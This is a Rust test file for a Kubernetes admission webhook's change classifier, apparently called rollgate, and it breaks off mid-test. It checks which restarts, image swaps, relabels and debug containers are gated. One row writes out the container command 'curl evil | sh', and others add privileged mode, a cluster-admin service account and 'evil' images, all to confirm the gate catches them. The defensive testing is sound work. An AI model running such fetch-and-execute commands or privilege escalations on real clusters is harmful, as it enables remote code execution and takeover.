//! [`classify`] against every rule of DESIGN.md "What is gated", one named
//! row per rule. Requests are the captured `kubectl rollout restart` review
//! (`tests/data/restart-review.json`) edited by the `mk_*`/`set_*` builders.

use std::collections::BTreeSet;

use kube::core::admission::AdmissionRequest;
use serde_json::{Value, json};

use super::*;

const FIXTURE: &str = include_str!("../../tests/data/restart-review.json");
/// The `restartedAt` value the fixture's new object carries.
const FIXTURE_RESTARTED_AT: &str = "2026-03-02T10:15:04Z";
/// The fixture's `app` container image.
const FIXTURE_IMAGE: &str = "registry.example.com/shop/checkout-api:v3.41.2@sha256:9f2b5c1d7e3a4b6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e";

// === builders ===

/// The fixture's `request`, edited by `edit`, parsed as the webhook parses it.
fn mk_request(edit: impl FnOnce(&mut Value)) -> AdmissionRequest<Workload> {
    let mut review: Value = serde_json::from_str(FIXTURE).unwrap();
    edit(&mut review["request"]);
    crate::admission::parse_review(review.to_string().as_bytes()).unwrap()
}

/// The default policy with `production` protected by name.
fn mk_policy() -> Policy {
    Policy {
        protected_namespaces: BTreeSet::from(["production".to_owned()]),
        ..Policy::default()
    }
}

fn no_labelled() -> BTreeSet<String> {
    BTreeSet::new()
}

/// `spec.template` of `side` ("object" or "oldObject").
fn template<'a>(req: &'a mut Value, side: &str) -> &'a mut Value {
    &mut req[side]["spec"]["template"]
}

/// Sets (or with `None` removes) a pod-template annotation on one side.
fn set_annotation(req: &mut Value, side: &str, key: &str, value: Option<&str>) {
    let annotations = &mut template(req, side)["metadata"]["annotations"];
    let map = annotations.as_object_mut().unwrap();
    match value {
        Some(v) => map.insert(key.to_owned(), json!(v)),
        None => map.remove(key),
    };
}

fn set_restarted_at(req: &mut Value, side: &str, value: Option<&str>) {
    set_annotation(req, side, RESTARTED_AT, value);
}

/// Turns the fixture into a request that does not restart: the new object's
/// template loses its `restartedAt`, so both templates are equal.
fn no_restart(req: &mut Value) {
    set_restarted_at(req, "object", None);
}

/// Sets the image of container `name` in `list` ("containers" or
/// "initContainers") on one side, adding the container when absent.
fn set_image(req: &mut Value, side: &str, list: &str, name: &str, image: &str) {
    let spec = &mut template(req, side)["spec"];
    if spec.get(list).is_none() {
        spec[list] = json!([]);
    }
    let containers = spec[list].as_array_mut().unwrap();
    match containers.iter_mut().find(|c| c["name"] == name) {
        Some(c) => c["image"] = json!(image),
        None => containers.push(json!({"name": name, "image": image})),
    }
}

/// Removes container `name` from `list` on one side.
fn remove_container(req: &mut Value, side: &str, list: &str, name: &str) {
    let containers = template(req, side)["spec"][list].as_array_mut().unwrap();
    containers.retain(|c| c["name"] != name);
}

/// Sets the workload kind (`request.kind`, `resource` and the objects' `kind`).
fn set_kind(req: &mut Value, group: &str, version: &str, kind: &str, resource: &str) {
    let gvk = json!({"group": group, "version": version, "kind": kind});
    let gvr = json!({"group": group, "version": version, "resource": resource});
    req["kind"] = gvk.clone();
    req["requestKind"] = gvk;
    req["resource"] = gvr.clone();
    req["requestResource"] = gvr;
    let api_version = if group.is_empty() {
        version.to_owned()
    } else {
        format!("{group}/{version}")
    };
    for side in ["object", "oldObject"] {
        req[side]["kind"] = json!(kind);
        req[side]["apiVersion"] = json!(api_version);
    }
}

fn set_namespace(req: &mut Value, ns: &str) {
    req["namespace"] = json!(ns);
    for side in ["object", "oldObject"] {
        req[side]["metadata"]["namespace"] = json!(ns);
    }
}

/// Sets the workload labels (not the template's) on both sides.
fn set_labels(req: &mut Value, labels: Value) {
    for side in ["object", "oldObject"] {
        req[side]["metadata"]["labels"] = labels.clone();
    }
}

fn set_env(req: &mut Value, name: &str, value: &str) {
    let env = template(req, "object")["spec"]["containers"][0]["env"]
        .as_array_mut()
        .unwrap();
    env.push(json!({"name": name, "value": value}));
}

// === expectations ===

/// What a row expects [`classify`] to say, without the change's details.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Ungated(UngatedReason),
    Gated(WorkloadKind, ChangeKind),
    Exempt(WorkloadKind, ChangeKind),
}

fn outcome(gate: &Gate) -> Outcome {
    match gate {
        Gate::Ungated(reason) => Outcome::Ungated(*reason),
        Gate::Gated(c) => Outcome::Gated(c.kind, c.class),
        Gate::Exempt(c) => Outcome::Exempt(c.kind, c.class),
    }
}

fn gated_change(gate: Gate, row: &str) -> GatedChange {
    match gate {
        Gate::Gated(c) | Gate::Exempt(c) => c,
        Gate::Ungated(reason) => panic!("{row}: expected a gated change, got Ungated({reason:?})"),
    }
}

type Edit = Box<dyn Fn(&mut Value)>;

fn edit(f: impl Fn(&mut Value) + 'static) -> Edit {
    Box::new(f)
}

/// Runs each row with the default policy (production protected by name).
fn check(rows: Vec<(&str, Edit, Outcome)>) {
    check_with(mk_policy(), &no_labelled(), rows);
}

fn check_with(policy: Policy, labelled: &dyn LabelledNamespaces, rows: Vec<(&str, Edit, Outcome)>) {
    for (row, edit, expected) in rows {
        let req = mk_request(|r| edit(r));
        let got = outcome(&classify(&req, &policy, labelled));
        assert_eq!(got, expected, "row {row:?}");
    }
}

use Outcome::{Exempt as E, Gated as G, Ungated as U};
use WorkloadKind::{CronJob, DaemonSet, Deployment, Pod, ReplicaSet, StatefulSet};

/// Turns the fixture into a CronJob whose job template holds its pod template.
fn as_cronjob(req: &mut Value) {
    set_kind(req, "batch", "v1", "CronJob", "cronjobs");
    for side in ["object", "oldObject"] {
        let tpl = req[side]["spec"]["template"].take();
        req[side]["spec"] =
            json!({"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": tpl}}});
    }
}

/// Turns the fixture into a Pod of the Deployment (its template's metadata
/// and spec), unchanged between the two sides.
fn as_pod(req: &mut Value) {
    set_kind(req, "", "v1", "Pod", "pods");
    req["name"] = json!("checkout-api-7d4f8b9c-abc12");
    let tpl = req["oldObject"]["spec"]["template"].clone();
    for side in ["object", "oldObject"] {
        let mut pod = tpl.clone();
        pod["metadata"]["name"] = json!("checkout-api-7d4f8b9c-abc12");
        pod["metadata"]["namespace"] = req["namespace"].clone();
        req[side] = pod;
        req[side]["kind"] = json!("Pod");
        req[side]["apiVersion"] = json!("v1");
    }
}

/// Sets the image of a Pod's container `name` in `list` on one side.
fn set_pod_image(req: &mut Value, side: &str, list: &str, name: &str, image: &str) {
    let spec = &mut req[side]["spec"];
    if spec.get(list).is_none() {
        spec[list] = json!([]);
    }
    let containers = spec[list].as_array_mut().unwrap();
    match containers.iter_mut().find(|c| c["name"] == name) {
        Some(c) => c["image"] = json!(image),
        None => containers.push(json!({"name": name, "image": image})),
    }
}

// === restart ===

#[test]
fn restart_is_restartedat_added_changed_or_removed_compared_as_a_string() {
    check(vec![
        (
            "restart added (the captured kubectl rollout restart)",
            edit(|_| {}),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "restart changed value",
            edit(|r| set_restarted_at(r, "oldObject", Some("2026-03-01T09:00:00Z"))),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "restart changed to the same instant in another offset (never parsed)",
            edit(|r| set_restarted_at(r, "oldObject", Some("2026-03-02T11:15:04+01:00"))),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "restart changed to an unparseable value",
            edit(|r| set_restarted_at(r, "object", Some("not a time"))),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "restart removed",
            edit(|r| {
                set_restarted_at(r, "oldObject", Some(FIXTURE_RESTARTED_AT));
                set_restarted_at(r, "object", None);
            }),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "restartedAt present and unchanged",
            edit(|r| set_restarted_at(r, "oldObject", Some(FIXTURE_RESTARTED_AT))),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "restartedAt unchanged while another annotation changes",
            edit(|r| {
                set_restarted_at(r, "oldObject", Some(FIXTURE_RESTARTED_AT));
                set_annotation(r, "object", "prometheus.io/port", Some("9091"));
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "restartedAt in another case of the key is another annotation",
            edit(|r| {
                no_restart(r);
                set_annotation(
                    r,
                    "object",
                    "kubectl.kubernetes.io/RestartedAt",
                    Some(FIXTURE_RESTARTED_AT),
                );
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "a restart that comes with a new command",
            edit(|r| {
                template(r, "object")["spec"]["containers"][0]["command"] =
                    json!(["/bin/sh", "-c", "curl evil | sh"]);
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "a restart that comes with privileged: true",
            edit(|r| {
                template(r, "object")["spec"]["containers"][0]["securityContext"] =
                    json!({"privileged": true});
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "an image change that comes with another service account",
            edit(|r| {
                no_restart(r);
                set_image(r, "object", "containers", "app", "checkout-api:v3.42.0");
                template(r, "object")["spec"]["serviceAccountName"] = json!("cluster-admin-sa");
            }),
            G(Deployment, ChangeKind::Template),
        ),
    ]);
}

#[test]
fn restart_records_the_new_restartedat_value_verbatim() {
    let rows: [(&str, Edit, Option<&str>); 2] = [
        ("restart added", edit(|_| {}), Some(FIXTURE_RESTARTED_AT)),
        (
            "restart removed",
            edit(|r| {
                set_restarted_at(r, "oldObject", Some(FIXTURE_RESTARTED_AT));
                set_restarted_at(r, "object", None);
            }),
            None,
        ),
    ];
    for (row, edit, expected) in rows {
        let req = mk_request(|r| edit(r));
        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
        assert!(change.diff.restarted, "row {row:?}");
        assert_eq!(change.diff.restarted_at.as_deref(), expected, "row {row:?}");
        assert!(change.diff.images.is_empty(), "row {row:?}");
    }
}

// === image ===

#[test]
fn image_change_in_any_container_or_init_container_is_gated() {
    check(vec![
        (
            "image changed in containers",
            edit(|r| {
                no_restart(r);
                set_image(
                    r,
                    "object",
                    "containers",
                    "app",
                    "registry.example.com/shop/checkout-api:v3.42.0",
                );
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "image changed in initContainers",
            edit(|r| {
                no_restart(r);
                set_image(r, "oldObject", "initContainers", "migrate", "migrate:v1");
                set_image(r, "object", "initContainers", "migrate", "migrate:v2");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "sidecar container added with an image",
            edit(|r| {
                no_restart(r);
                set_image(r, "object", "containers", "proxy", "envoy:v1.30");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "container removed",
            edit(|r| {
                no_restart(r);
                set_image(r, "oldObject", "containers", "proxy", "envoy:v1.30");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "init container added with an image",
            edit(|r| {
                no_restart(r);
                set_image(r, "object", "initContainers", "migrate", "migrate:v2");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "init container removed",
            edit(|r| {
                no_restart(r);
                set_image(r, "oldObject", "initContainers", "migrate", "migrate:v1");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "containers reordered with the same images (matched by name)",
            edit(|r| {
                no_restart(r);
                set_image(r, "oldObject", "containers", "proxy", "envoy:v1.30");
                set_image(r, "object", "containers", "proxy", "envoy:v1.30");
                template(r, "object")["spec"]["containers"]
                    .as_array_mut()
                    .unwrap()
                    .reverse();
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "restart and image change together",
            edit(|r| set_image(r, "object", "containers", "app", "checkout-api:v3.42.0")),
            G(Deployment, ChangeKind::Both),
        ),
    ]);
}

#[test]
fn image_changes_name_the_container_and_both_images() {
    let rows: [(&str, Edit, ImageChange); 4] = [
        (
            "changed in containers",
            edit(|r| set_image(r, "object", "containers", "app", "checkout-api:v3.42.0")),
            ImageChange {
                container: "app".into(),
                init: false,
                ephemeral: false,
                previous_image: Some(FIXTURE_IMAGE.into()),
                current_image: Some("checkout-api:v3.42.0".into()),
            },
        ),
        (
            "changed in initContainers",
            edit(|r| {
                set_image(r, "oldObject", "initContainers", "migrate", "migrate:v1");
                set_image(r, "object", "initContainers", "migrate", "migrate:v2");
            }),
            ImageChange {
                container: "migrate".into(),
                init: true,
                ephemeral: false,
                previous_image: Some("migrate:v1".into()),
                current_image: Some("migrate:v2".into()),
            },
        ),
        (
            "container added",
            edit(|r| set_image(r, "object", "containers", "proxy", "envoy:v1.30")),
            ImageChange {
                container: "proxy".into(),
                init: false,
                ephemeral: false,
                previous_image: None,
                current_image: Some("envoy:v1.30".into()),
            },
        ),
        (
            "container removed",
            edit(|r| {
                set_image(r, "oldObject", "containers", "proxy", "envoy:v1.30");
                set_image(r, "object", "containers", "proxy", "envoy:v1.30");
                remove_container(r, "object", "containers", "proxy");
            }),
            ImageChange {
                container: "proxy".into(),
                init: false,
                ephemeral: false,
                previous_image: Some("envoy:v1.30".into()),
                current_image: None,
            },
        ),
    ];
    for (row, edit, expected) in rows {
        let req = mk_request(|r| {
            no_restart(r);
            edit(r);
        });
        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
        assert_eq!(change.diff.images, vec![expected], "row {row:?}");
        assert_eq!(change.class, ChangeKind::Image, "row {row:?}");
    }
}

// === kinds, subresources, operations ===

#[test]
fn only_the_gated_kinds_of_their_own_groups_are_gated() {
    check(vec![
        (
            "apps/v1 Deployment",
            edit(|r| set_kind(r, "apps", "v1", "Deployment", "deployments")),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "apps/v1 StatefulSet",
            edit(|r| set_kind(r, "apps", "v1", "StatefulSet", "statefulsets")),
            G(StatefulSet, ChangeKind::Restart),
        ),
        (
            "apps/v1 DaemonSet",
            edit(|r| set_kind(r, "apps", "v1", "DaemonSet", "daemonsets")),
            G(DaemonSet, ChangeKind::Restart),
        ),
        (
            "apps/v1 ReplicaSet",
            edit(|r| set_kind(r, "apps", "v1", "ReplicaSet", "replicasets")),
            G(ReplicaSet, ChangeKind::Restart),
        ),
        (
            "batch/v1 CronJob (its template under spec.jobTemplate.spec.template)",
            edit(as_cronjob),
            G(CronJob, ChangeKind::Restart),
        ),
        (
            "a CronJob in the apps group is no CronJob",
            edit(|r| {
                as_cronjob(r);
                set_kind(r, "apps", "v1", "CronJob", "cronjobs");
            }),
            U(UngatedReason::NotAWorkload),
        ),
        (
            "batch/v1 Job",
            edit(|r| set_kind(r, "batch", "v1", "Job", "jobs")),
            U(UngatedReason::NotAWorkload),
        ),
        (
            "core v1 Pod whose images did not change",
            edit(|r| {
                as_pod(r);
                r["object"]["metadata"]["annotations"] = json!({"note": "hello"});
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "a Pod in the apps group is no Pod",
            edit(|r| {
                as_pod(r);
                set_kind(r, "apps", "v1", "Pod", "pods");
            }),
            U(UngatedReason::NotAWorkload),
        ),
        (
            "a CRD of another group named Deployment",
            edit(|r| set_kind(r, "example.com", "v1", "Deployment", "deployments")),
            U(UngatedReason::NotAWorkload),
        ),
    ]);
}

#[test]
fn gated_kinds_policy_can_exclude_a_kind() {
    let policy = Policy {
        gated_kinds: vec![WorkloadKind::Deployment, WorkloadKind::StatefulSet],
        ..mk_policy()
    };
    check_with(
        policy,
        &no_labelled(),
        vec![
            (
                "DaemonSet left out of gatedKinds",
                edit(|r| set_kind(r, "apps", "v1", "DaemonSet", "daemonsets")),
                U(UngatedReason::KindNotGated),
            ),
            (
                "Deployment still in gatedKinds",
                edit(|_| {}),
                G(Deployment, ChangeKind::Restart),
            ),
            (
                "StatefulSet still in gatedKinds",
                edit(|r| set_kind(r, "apps", "v1", "StatefulSet", "statefulsets")),
                G(StatefulSet, ChangeKind::Restart),
            ),
        ],
    );
}

#[test]
fn subresources_creates_and_deletes_are_not_gated() {
    check(vec![
        (
            "scale subresource",
            edit(|r| r["subResource"] = json!("scale")),
            U(UngatedReason::Subresource),
        ),
        (
            "status subresource",
            edit(|r| r["subResource"] = json!("status")),
            U(UngatedReason::Subresource),
        ),
        (
            "empty subresource is the main resource",
            edit(|r| r["subResource"] = json!("")),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "CREATE",
            edit(|r| {
                r["operation"] = json!("CREATE");
                r["oldObject"] = Value::Null;
            }),
            U(UngatedReason::NotAnUpdate),
        ),
        (
            "DELETE",
            edit(|r| {
                r["operation"] = json!("DELETE");
                r["object"] = Value::Null;
            }),
            U(UngatedReason::NotAnUpdate),
        ),
        (
            "UPDATE without oldObject",
            edit(|r| r["oldObject"] = Value::Null),
            U(UngatedReason::Unreadable),
        ),
        (
            "UPDATE of an object without a pod template",
            edit(|r| r["object"]["spec"] = json!({"replicas": 6})),
            U(UngatedReason::Unreadable),
        ),
    ]);
}

// === namespaces ===

#[test]
fn only_protected_namespaces_are_gated() {
    let labelled: BTreeSet<String> = BTreeSet::from(["payments".to_owned()]);
    check_with(
        mk_policy(),
        &labelled,
        vec![
            (
                "protected by name in the config",
                edit(|_| {}),
                G(Deployment, ChangeKind::Restart),
            ),
            (
                "protected by the rollgate.io/protected label",
                edit(|r| set_namespace(r, "payments")),
                G(Deployment, ChangeKind::Restart),
            ),
            (
                "neither listed nor labelled",
                edit(|r| set_namespace(r, "staging")),
                U(UngatedReason::NamespaceNotProtected),
            ),
            (
                "a prefix of a protected name",
                edit(|r| set_namespace(r, "prod")),
                U(UngatedReason::NamespaceNotProtected),
            ),
        ],
    );
}

#[test]
fn a_labelled_namespace_needs_no_config_entry() {
    let policy = Policy::default();
    let labelled: BTreeSet<String> = BTreeSet::from(["production".to_owned()]);
    let req = mk_request(|_| {});
    assert_eq!(
        outcome(&classify(&req, &policy, &labelled)),
        G(Deployment, ChangeKind::Restart),
        "labelled production with an empty protectedNamespaces"
    );
    assert_eq!(
        outcome(&classify(&req, &policy, &no_labelled())),
        U(UngatedReason::NamespaceNotProtected),
        "production neither listed nor labelled"
    );
}

// === other template changes ===

#[test]
fn changes_outside_the_pod_template_are_not_gated_and_any_inside_is_template() {
    check(vec![
        (
            "replica change only",
            edit(|r| {
                no_restart(r);
                r["object"]["spec"]["replicas"] = json!(12);
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "status change only",
            edit(|r| {
                no_restart(r);
                r["object"]["status"]["readyReplicas"] = json!(5);
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "env var added",
            edit(|r| {
                no_restart(r);
                set_env(r, "LOG_LEVEL", "debug");
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "unrelated pod-template annotation changed",
            edit(|r| {
                no_restart(r);
                set_annotation(r, "object", "prometheus.io/port", Some("9091"));
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "imagePullPolicy changed",
            edit(|r| {
                no_restart(r);
                template(r, "object")["spec"]["containers"][0]["imagePullPolicy"] = json!("Never");
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "a rollgate.io/grant annotation written by someone else than rollgate",
            edit(|r| {
                no_restart(r);
                set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
            }),
            G(Deployment, ChangeKind::Template),
        ),
        (
            "workload (not template) annotation changed",
            edit(|r| {
                no_restart(r);
                r["object"]["metadata"]["annotations"]["note"] = json!("hello");
            }),
            U(UngatedReason::NoGatedChange),
        ),
    ]);
}

#[test]
fn without_gate_any_template_change_only_restarts_and_images_are_gated() {
    let policy = Policy {
        gate_any_template_change: false,
        ..mk_policy()
    };
    check_with(
        policy,
        &no_labelled(),
        vec![
            (
                "env var added",
                edit(|r| {
                    no_restart(r);
                    set_env(r, "LOG_LEVEL", "debug");
                }),
                U(UngatedReason::NoGatedChange),
            ),
            (
                "unrelated pod-template annotation changed",
                edit(|r| {
                    no_restart(r);
                    set_annotation(r, "object", "prometheus.io/port", Some("9091"));
                }),
                U(UngatedReason::NoGatedChange),
            ),
            (
                "a restart that comes with an env change is still gated, as a restart",
                edit(|r| set_env(r, "LOG_LEVEL", "debug")),
                G(Deployment, ChangeKind::Restart),
            ),
            (
                "a relabel is still gated",
                edit(|r| {
                    no_restart(r);
                    r["object"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("web");
                }),
                G(Deployment, ChangeKind::Relabel),
            ),
            (
                "replica change only is still not a template change",
                edit(|r| {
                    no_restart(r);
                    r["object"]["spec"]["replicas"] = json!(12);
                }),
                U(UngatedReason::NoGatedChange),
            ),
            (
                "a restart is still a restart",
                edit(|_| {}),
                G(Deployment, ChangeKind::Restart),
            ),
            (
                "an image change is still an image change",
                edit(|r| {
                    no_restart(r);
                    set_image(r, "object", "containers", "app", "checkout-api:v3.42.0");
                }),
                G(Deployment, ChangeKind::Image),
            ),
        ],
    );
}

// === exemptions ===

#[test]
fn exempt_users_and_groups_pass_as_exempt() {
    let rows: [(&str, Policy, Edit, Outcome); 5] = [
        (
            "exempt user",
            Policy {
                exempt_users: BTreeSet::from(["alice@example.com".to_owned()]),
                ..mk_policy()
            },
            edit(|_| {}),
            E(Deployment, ChangeKind::Restart),
        ),
        (
            "member of an exempt group",
            Policy {
                exempt_groups: BTreeSet::from(["oidc:payments-deployers".to_owned()]),
                ..mk_policy()
            },
            edit(|_| {}),
            E(Deployment, ChangeKind::Restart),
        ),
        (
            "exempt service account changing an image",
            Policy {
                exempt_users: BTreeSet::from([
                    "system:serviceaccount:argocd:argocd-application-controller".to_owned(),
                ]),
                ..mk_policy()
            },
            edit(|r| {
                no_restart(r);
                r["userInfo"] = json!({
                    "username": "system:serviceaccount:argocd:argocd-application-controller",
                    "groups": ["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"]
                });
                set_image(r, "object", "containers", "app", "checkout-api:v3.42.0");
            }),
            E(Deployment, ChangeKind::Image),
        ),
        (
            "another user is not exempt",
            Policy {
                exempt_users: BTreeSet::from(["bob@example.com".to_owned()]),
                exempt_groups: BTreeSet::from(["oidc:gitops".to_owned()]),
                ..mk_policy()
            },
            edit(|_| {}),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "an exempt user's ungated change stays ungated",
            Policy {
                exempt_users: BTreeSet::from(["alice@example.com".to_owned()]),
                ..mk_policy()
            },
            edit(|r| {
                no_restart(r);
                r["object"]["spec"]["replicas"] = json!(12);
            }),
            U(UngatedReason::NoGatedChange),
        ),
    ];
    for (row, policy, edit, expected) in rows {
        let req = mk_request(|r| edit(r));
        let got = outcome(&classify(&req, &policy, &no_labelled()));
        assert_eq!(got, expected, "row {row:?}");
    }
}

// === the gated change itself ===

#[test]
fn application_is_name_label_else_app_label_else_workload_name() {
    let rows: [(&str, Value, &str); 5] = [
        (
            "an empty app.kubernetes.io/name falls back to app",
            json!({"app.kubernetes.io/name": "", "app": "legacy-checkout"}),
            "legacy-checkout",
        ),
        (
            "app.kubernetes.io/name wins over app",
            json!({"app.kubernetes.io/name": "checkout", "app": "legacy-checkout"}),
            "checkout",
        ),
        (
            "app label when there is no app.kubernetes.io/name",
            json!({"app": "legacy-checkout", "team": "payments"}),
            "legacy-checkout",
        ),
        (
            "workload name when neither label is set",
            json!({"team": "payments"}),
            "checkout-api",
        ),
        (
            "workload name when there are no labels",
            Value::Null,
            "checkout-api",
        ),
    ];
    for (row, labels, expected) in rows {
        let req = mk_request(|r| set_labels(r, labels.clone()));
        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
        assert_eq!(change.application, expected, "row {row:?}");
    }
}

#[test]
fn the_captured_restart_is_described_completely() {
    let req = mk_request(|_| {});
    let change = gated_change(
        classify(&req, &mk_policy(), &no_labelled()),
        "captured restart",
    );
    assert_eq!(
        change,
        GatedChange {
            kind: WorkloadKind::Deployment,
            namespace: "production".into(),
            name: "checkout-api".into(),
            application: "checkout-api".into(),
            class: ChangeKind::Restart,
            requester: Requester {
                username: "alice@example.com".into(),
                groups: vec![
                    "oidc:platform-team".into(),
                    "oidc:payments-deployers".into(),
                    "system:authenticated".into(),
                ],
            },
            diff: TemplateDiff {
                restarted: true,
                restarted_at: Some(FIXTURE_RESTARTED_AT.into()),
                images: vec![],
                other: vec![],
                relabelled: vec![],
            },
            redeploy: None,
        }
    );
}

#[test]
fn the_grant_annotation_of_rollgates_own_redeploy_is_read() {
    let req = mk_request(|r| {
        r["userInfo"] = json!({"username": "system:serviceaccount:rollgate:rollgate"});
        set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
    });
    let change = gated_change(
        classify(&req, &mk_policy(), &no_labelled()),
        "rollgate redeploy",
    );
    assert_eq!(
        change.redeploy,
        Some(crate::policy::Redeploy {
            grant_jti: "0f9c2d7e-jti".into(),
            operation_id: None
        })
    );
    assert_eq!(
        change.requester.username,
        "system:serviceaccount:rollgate:rollgate"
    );
    assert!(change.requester.groups.is_empty());
}

#[test]
fn a_grant_annotation_written_by_anyone_else_is_ignored() {
    let req = mk_request(|r| {
        set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
    });
    let change = gated_change(
        classify(&req, &mk_policy(), &no_labelled()),
        "alice sets the annotation",
    );
    assert_eq!(
        change.redeploy, None,
        "only rollgate's own patches name a grant"
    );
}

#[test]
fn rollgate_itself_is_never_exempt() {
    let req = mk_request(|r| {
        r["userInfo"] = json!({"username": "system:serviceaccount:rollgate:rollgate"});
    });
    let mut policy = mk_policy();
    policy
        .exempt_users
        .insert("system:serviceaccount:rollgate:rollgate".into());
    assert!(matches!(
        classify(&req, &policy, &no_labelled()),
        Gate::Gated(_)
    ));
}

#[test]
fn rollgate_itself_is_never_exempt_by_any_group_either() {
    let req = mk_request(|r| {
        r["userInfo"] = json!({
            "username": "system:serviceaccount:rollgate:rollgate",
            "groups": ["system:serviceaccounts", "system:serviceaccounts:rollgate", "system:authenticated"]
        });
    });
    let policy = Policy {
        exempt_groups: BTreeSet::from(["system:serviceaccounts:rollgate".to_owned()]),
        ..mk_policy()
    };
    assert_eq!(
        outcome(&classify(&req, &policy, &no_labelled())),
        G(Deployment, ChangeKind::Restart),
        "a group naming rollgate's service account does not exempt it"
    );
}

// === the application cannot be moved ===

/// Gives the old object the application labels of `payments`, the new one `labels`.
fn relabel(req: &mut Value, new_labels: Value) {
    req["oldObject"]["metadata"]["labels"] =
        json!({"app.kubernetes.io/name": "payments", "team": "payments"});
    req["object"]["metadata"]["labels"] = new_labels;
}

#[test]
fn a_change_to_the_labels_that_name_the_application_is_relabel_of_the_old_application() {
    let rows: [(&str, Edit); 5] = [
        (
            "relabelled to web in the same request as an image change",
            edit(|r| {
                no_restart(r);
                relabel(
                    r,
                    json!({"app.kubernetes.io/name": "web", "team": "payments"}),
                );
                set_image(r, "object", "containers", "app", "evil:1");
            }),
        ),
        (
            "relabelled in a label-only update (step one of two)",
            edit(|r| {
                no_restart(r);
                relabel(
                    r,
                    json!({"app.kubernetes.io/name": "web", "team": "payments"}),
                );
            }),
        ),
        (
            "app label added beside app.kubernetes.io/name",
            edit(|r| {
                no_restart(r);
                relabel(
                    r,
                    json!({"app.kubernetes.io/name": "payments", "app": "web", "team": "payments"}),
                );
            }),
        ),
        (
            "application labels removed (the name would take over)",
            edit(|r| {
                no_restart(r);
                relabel(r, json!({"team": "payments"}));
            }),
        ),
        (
            "relabelled with a restart",
            edit(|r| relabel(r, json!({"app.kubernetes.io/name": "web"}))),
        ),
    ];
    for (row, edit) in rows {
        let req = mk_request(|r| edit(r));
        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
        assert_eq!(change.class, ChangeKind::Relabel, "row {row:?}");
        assert_eq!(change.class.action(), "any", "row {row:?}");
        assert_eq!(
            change.application, "payments",
            "row {row:?}: the application before the request"
        );
    }
}

#[test]
fn the_application_is_read_from_the_object_before_the_request() {
    // Step two of a two-step relabel: the object already is `web`, and its
    // image changes; the grant needed is one for `web`, whatever the new side says.
    let req = mk_request(|r| {
        no_restart(r);
        r["oldObject"]["metadata"]["labels"] = json!({"app.kubernetes.io/name": "web"});
        r["object"]["metadata"]["labels"] = json!({"app.kubernetes.io/name": "web"});
        set_image(r, "object", "containers", "app", "evil:1");
    });
    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "image");
    assert_eq!(
        (change.class, change.application.as_str()),
        (ChangeKind::Image, "web")
    );
}

// === Pods, ReplicaSets, CronJobs ===

#[test]
fn pods_are_gated_on_image_changes_and_debug_containers() {
    check(vec![
        (
            "kubectl set image pod/…: a container image",
            edit(|r| {
                as_pod(r);
                set_pod_image(r, "object", "containers", "app", "evil:1");
            }),
            G(Pod, ChangeKind::Image),
        ),
        (
            "an init container image",
            edit(|r| {
                as_pod(r);
                set_pod_image(r, "oldObject", "initContainers", "migrate", "migrate:v1");
                set_pod_image(r, "object", "initContainers", "migrate", "evil:1");
            }),
            G(Pod, ChangeKind::Image),
        ),
        (
            "kubectl debug: pods/ephemeralcontainers adds one",
            edit(|r| {
                as_pod(r);
                r["subResource"] = json!("ephemeralcontainers");
                r["object"]["spec"]["ephemeralContainers"] = json!([
                    {"name": "debugger-x7k2p", "image": "busybox:1.36", "targetContainerName": "app", "stdin": true, "tty": true}
                ]);
            }),
            G(Pod, ChangeKind::Debug),
        ),
        (
            "pods/ephemeralcontainers with nothing new",
            edit(|r| {
                as_pod(r);
                r["subResource"] = json!("ephemeralcontainers");
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "a Pod relabelled out of its application",
            edit(|r| {
                as_pod(r);
                r["object"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("quarantine");
            }),
            G(Pod, ChangeKind::Relabel),
        ),
        (
            "a Pod's other labels and annotations",
            edit(|r| {
                as_pod(r);
                r["object"]["metadata"]["labels"]["team"] = json!("growth");
                r["object"]["metadata"]["annotations"] = json!({"note": "hello"});
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "pods/status",
            edit(|r| {
                as_pod(r);
                r["subResource"] = json!("status");
                set_pod_image(r, "object", "containers", "app", "evil:1");
            }),
            U(UngatedReason::Subresource),
        ),
        (
            "ephemeralcontainers is a Pod subresource only",
            edit(|r| r["subResource"] = json!("ephemeralcontainers")),
